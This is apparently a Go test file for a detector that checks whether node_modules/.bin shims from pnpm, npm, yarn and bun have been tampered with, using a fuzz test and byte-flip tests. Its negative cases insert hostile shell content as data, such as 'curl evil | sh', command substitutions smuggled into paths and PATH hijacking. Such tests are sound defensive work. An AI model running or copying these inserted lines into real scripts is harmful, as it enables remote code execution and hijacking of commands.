package inventory

import (
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"
)

// pnpmShim is what pnpm 10 writes for a command of a script for Node.js.
const pnpmShim = `#!/bin/sh
basedir=$(dirname "$(echo "$0" | sed -e 's,\\,/,g')")

case ` + "`uname`" + ` in
    *CYGWIN*|*MINGW*|*MSYS*)
        if command -v cygpath > /dev/null 2>&1; then
            basedir=` + "`cygpath -w \"$basedir\"`" + `
        fi
    ;;
esac

if [ -z "$NODE_PATH" ]; then
  export NODE_PATH="/p/node_modules/.pnpm/x@1.0.0/node_modules/x/node_modules:/p/node_modules/.pnpm/node_modules"
else
  export NODE_PATH="/p/node_modules/.pnpm/x@1.0.0/node_modules/x/node_modules:/p/node_modules/.pnpm/node_modules:$NODE_PATH"
fi
if [ -x "$basedir/node" ]; then
  exec "$basedir/node"  "$basedir/../x/cli.js" "$@"
else
  exec node  "$basedir/../x/cli.js" "$@"
fi
`

func TestShims(t *testing.T) {
	replace := func(old, new string) string {
		if !strings.Contains(pnpmShim, old) {
			t.Fatalf("the script has no %q", old)
		}
		return strings.ReplaceAll(pnpmShim, old, new)
	}
	const node, target = "#!/usr/bin/env node", "../x/cli.js"
	for _, tt := range []struct {
		name, script, first string
		want                bool
	}{
		{"pnpm", pnpmShim, node, true},
		{"without a first line", pnpmShim, "", true},
		{"a comment", pnpmShim + "# cmd-shim-target=/p/node_modules/x/cli.js\n", node, true},
		{"a flag of the file's own", replace(`  "$basedir/../x`, `  --no-warnings "$basedir/../x`), "#!/usr/bin/env -S node --no-warnings", true},
		{"links as they are", replace(`  "$basedir/../x`, ` --preserve-symlinks "$basedir/../x`), node, true},

		{"Windows line ends", strings.ReplaceAll(pnpmShim, "\n", "\r\n"), node, false},
		{"a flag", replace(`  "$basedir/../x`, ` --no-warnings "$basedir/../x`), node, false},
		{"a module to load", replace(`  "$basedir/../x`, ` --require=.cache "$basedir/../x`), node, false},
		{"another program", pnpmShim, "#!/bin/sh", false},
		{"another program in one line", strings.Replace(pnpmShim, "exec node", "exec sh", 1), node, false},
		{"another file in one line", strings.Replace(pnpmShim, "../x/cli.js", "../y/cli.js", 1), node, false},
		{"another line", replace("fi\nif [ -x", "fi\ncurl evil | sh\nif [ -x"), node, false},
		{"a line after it", pnpmShim + "evil\n", node, false},
		{"a line before it", "evil\n" + pnpmShim, node, false},
		{"another command in its line", replace(`cli.js" "$@"`, `cli.js" "$@"; evil`), node, false},
		{"a command in a path", replace("../x/cli.js", "../x/$(evil).js"), node, false},
		{"a command in backquotes", replace("../x/cli.js", "../x/`evil`.js"), node, false},
		{"a command in NODE_PATH", replace("/p/node_modules/.pnpm/x", "$(evil)/node_modules/.pnpm/x"), node, false},
		{"another NODE_PATH in one line", strings.Replace(pnpmShim, "/p/node_modules/.pnpm/x", "/q/node_modules/.pnpm/x", 1), node, false},
		{"another PATH", replace("if [ -x", "export PATH=\"/evil:$PATH\"\nif [ -x"), node, false},
		{"lines in another order", replace("\nesac", "\nesac\nbasedir=`cygpath -w \"$basedir\"`"), node, false},
		{"another shell", replace("#!/bin/sh", "#!/evil/sh"), node, false},
		{"nothing", "#!/bin/sh\n", node, false},
		{"empty", "", node, false},
		{"a binary", "\x7fELF\x00", node, false},
		{"one line", "exec node  \"$basedir/../x/cli.js\" \"$@\"\n", node, false},
	} {
		s, err := shimKinds[""].read(tt.script)
		got := err == nil && shimKinds[""].is(s, runners(tt.first, "cli.js"))
		if got != tt.want || got && s.target != target {
			t.Errorf("%s: %v, want %v (%+v, %v)", tt.name, got, tt.want, s, err)
		}
	}
}

func TestForeignPath(t *testing.T) {
	s := &strays{p: &Project{Dir: "/c/p"}}
	for _, tt := range []struct{ list, want string }{
		{"/c/p/node_modules/x/node_modules:/c/p/node_modules:/c/node_modules:/node_modules", ""},
		{"/c/p/node_modules/.pnpm/node_modules", ""},
		{"/c/p/node_modules:/tmp/evil/node_modules", "/tmp/evil/node_modules"},
		{"/c/p/node_modules/.cache/node_modules", "/c/p/node_modules/.cache/node_modules"},
		{"/c/p/dist/node_modules", "/c/p/dist/node_modules"},
		{"/c/p/node_modules/../evil/node_modules", "/c/p/node_modules/../evil/node_modules"},
		{"node_modules", "node_modules"}, {"/c/p", "/c/p"},
		{`C:\evil\node_modules`, `C:\evil\node_modules`},
	} {
		if got := s.foreignPath(tt.list, "node_modules/.bin", "../x/cli.js"); got != tt.want {
			t.Errorf("%s: %q, want %q", tt.list, got, tt.want)
		}
	}
	windows := &strays{p: &Project{Dir: "/mnt/c/p"}}
	for list, want := range map[string]string{`C:\p\node_modules\x\node_modules;C:\p\node_modules`: "", `D:\p\node_modules`: `D:\p\node_modules`, "/proc/cygdrive/c/p/node_modules": ""} {
		if got := windows.foreignPath(list, "node_modules/.bin", "../x/cli.js"); got != want {
			t.Errorf("%s: %q, want %q", list, got, want)
		}
	}
}

// bun links a command to the program for this platform in an optional dependency.
func TestLentCommand(t *testing.T) {
	for _, tt := range []struct {
		name, kind, file, command string
		want                      bool
	}{
		{"the same path", "bun.lock", "node_modules/@es/linux/bin/es", "es", true},
		{"the command's name", "bun.lock", "node_modules/@es/linux/es", "es", true},
		{"another file", "bun.lock", "node_modules/@es/linux/bin/other", "es", false},
		{"another command", "bun.lock", "node_modules/@es/linux/bin/es", "node", false},
		{"what is no optional dependency", "bun.lock", "node_modules/other/bin/es", "es", false},
		{"what nobody lists", "bun.lock", "node_modules/@es/windows/bin/es", "es", false},
		{"another package manager", "yarn.lock", "node_modules/@es/linux/bin/es", "es", false},
	} {
		dir := t.TempDir()
		for name, body := range map[string]string{
			"node_modules/es/package.json": `{"name":"es","bin":{"es":"./bin/es"},"optionalDependencies":{"@es/linux":"1","@es/windows":"1"}}`, "node_modules/other/package.json": "{}",
			"node_modules/@es/linux/package.json": `{"name":"@es/linux"}`, tt.file: "", "node_modules/.bin/.DS_Store": "",
		} {
			full := filepath.Join(dir, filepath.FromSlash(name))
			if err := os.MkdirAll(filepath.Dir(full), 0o755); err != nil {
				t.Fatal(err)
			}
			if err := os.WriteFile(full, []byte(body), 0o644); err != nil {
				t.Fatal(err)
			}
		}
		if err := os.Symlink("../../"+tt.file, filepath.Join(dir, "node_modules", ".bin", tt.command)); err != nil {
			t.Skip("no symbolic links here:", err)
		}
		s := &strays{p: &Project{Dir: dir, Kind: tt.kind}}
		s.commands("node_modules/.bin", func(place string) bool {
			return place == "node_modules/es" || place == "node_modules/other" || place == "node_modules/@es/linux"
		})
		if got := len(s.found) == 0; got != tt.want {
			t.Errorf("%s: passes %v, want %v: %+v", tt.name, got, tt.want, s.found)
		}
	}
}

// TestShimsByTools has the packages that npm, pnpm and yarn write such scripts with write them, for Windows too.
func TestShimsByTools(t *testing.T) {
	if testing.Short() {
		t.Skip("slow: installs what writes commands")
	}
	npm, err := exec.LookPath("npm")
	if err != nil {
		t.Skip("npm is absent: what writes commands cannot be installed")
	}
	node, err := exec.LookPath("node")
	if err != nil {
		t.Skip("node is absent: what writes commands cannot be run")
	}
	dir := t.TempDir()
	if dir, err = filepath.EvalSymlinks(dir); err != nil {
		t.Fatal(err)
	}
	tools := []string{
		"cmd-shim@3.0.3", "cmd-shim@4.1.0", "cmd-shim@5.0.0", "cmd-shim@6.0.3", "cmd-shim@7.0.0", "cmd-shim@8.0.0",
		"@zkochan/cmd-shim@3.1.0", "@zkochan/cmd-shim@5.2.2", "@zkochan/cmd-shim@5.4.1", "@zkochan/cmd-shim@6.0.0", "@zkochan/cmd-shim@7.0.0", "@zkochan/cmd-shim@9.0.7",
	}
	args := []string{"install", "--prefix", dir, "--no-audit", "--no-fund", "--ignore-scripts"}
	var names []string
	for _, tool := range tools {
		name := strings.NewReplacer("@", "", "/", "-", ".", "-").Replace(tool)
		names = append(names, name)
		args = append(args, name+"@npm:"+tool)
	}
	if out, err := exec.Command(npm, args...).CombinedOutput(); err != nil {
		t.Skipf("npm cannot install what writes commands: %v\n%s", err, out)
	}
	program := `const fs = require('fs'), path = require('path')
const files = {node: '#!/usr/bin/env node\n', crlf: '#!/usr/bin/env node\r\n', flag: '#!/usr/bin/env -S node --no-warnings\n', env: '#!/usr/bin/env -S A=b node\n', sh: '#!/bin/sh\n', binary: '\x7fELF', 'none.js': '1\n', 'some.sh': 'x'}
;(async () => {
  for (const name of process.argv.slice(2)) {
    const imported = await import(name), given = imported.default || imported.cmdShim || imported
    const shim = name.startsWith('cmd-shim') && given.length > 2 ? require('util').promisify(given) : given // it took a callback once
    for (const file in files) {
      const modules = path.join(process.cwd(), name, 'node_modules')
      fs.mkdirSync(path.join(modules, 'x'), {recursive: true})
      fs.writeFileSync(path.join(modules, 'x', file), files[file])
      fs.writeFileSync(path.join(modules, 'x', 'package.json'), JSON.stringify({name: 'x', bin: Object.fromEntries(Object.keys(files).flatMap(f => [[f + '-1', f], [f + '-2', f]]))}))
      const options = {createCmdFile: true, createPwshFile: true}
      await shim(path.join(modules, 'x', file), path.join(modules, '.bin', file + '-1'), ...(name.startsWith('zkochan') ? [options] : []))
      if (name.startsWith('zkochan') && !name.includes('shim3')) {
        options.nodePath = [path.join(modules, 'x', 'node_modules'), modules]
        await shim(path.join(modules, 'x', file), path.join(modules, '.bin', file + '-2'), options)
      }
    }
  }
})()
`
	if err := os.WriteFile(filepath.Join(dir, "write.js"), []byte(program), 0o644); err != nil {
		t.Fatal(err)
	}
	cmd := exec.Command(node, append([]string{"write.js"}, names...)...)
	cmd.Dir = dir
	if out, err := cmd.CombinedOutput(); err != nil {
		t.Fatalf("writing commands: %v\n%s", err, out)
	}
	has := func(place string) bool { return place == "node_modules/x" }
	for _, name := range names {
		s := &strays{p: &Project{Dir: filepath.Join(dir, name)}}
		s.commands("node_modules/.bin", has)
		for _, o := range s.found {
			t.Errorf("%s: %s", name, o.Oddity)
		}
		files, err := filepath.Glob(filepath.Join(dir, name, "node_modules", ".bin", "*"))
		if err != nil || len(files) < 24 {
			t.Errorf("%s: only %d commands (%v)", name, len(files), err)
		}
		// No byte of any can be another.
		for _, file := range files {
			data, err := os.ReadFile(file)
			if err != nil {
				t.Fatal(err)
			}
			for i := 0; i < len(data); i += 7 {
				changed := []byte(string(data))
				if changed[i] ^= 1; strings.ContainsAny(string(data[i]), " \t\r\n#/") {
					continue // space and comments may differ; a path's "." does not
				}
				if line := string(data[strings.LastIndexByte(string(data[:i]), '\n')+1 : i]); strings.HasPrefix(strings.TrimSpace(line), "# ") || strings.TrimSpace(line) == "#" {
					continue
				}
				if err := os.WriteFile(file, changed, 0o755); err != nil {
					t.Fatal(err)
				}
				ext := strings.ToLower(filepath.Ext(file))
				if shimKinds[ext] == nil {
					ext = ""
				}
				if is, err := shimKinds[ext].read(string(changed)); err == nil {
					if _, err := os.Stat(filepath.Dir(filepath.Join(filepath.Dir(file), is.target))); err != nil {
						continue // of what is not installed
					}
				}
				s := &strays{p: s.p}
				s.command("node_modules/.bin", "node_modules/.bin/"+filepath.Base(file), has)
				if len(s.found) == 0 {
					t.Errorf("%s: %s with another byte at %d passes:\n%s", name, filepath.Base(file), i, changed)
				}
			}
			if err := os.WriteFile(file, data, 0o755); err != nil {
				t.Fatal(err)
			}
		}
	}
}

func FuzzShim(f *testing.F) {
	f.Add(pnpmShim, "", "#!/usr/bin/env node")
	f.Add("@SETLOCAL\r\n@\"%~dp0\\..\\x\"   %*\r\n", ".cmd", "")
	f.Add("#!/usr/bin/env pwsh\n& \"$basedir/../x\"   $args\n", ".ps1", "#!/bin/sh -x\n")
	f.Fuzz(func(t *testing.T, script, ext, first string) {
		kind := shimKinds[ext]
		if kind == nil {
			return
		}
		s, err := kind.read(script)
		if err != nil {
			return
		}
		if kind.is(s, runners(first, s.target)) && strings.Count(script, s.target) == 0 && ext == "" {
			t.Errorf("%q does not run %q", script, s.target)
		}
	})
}
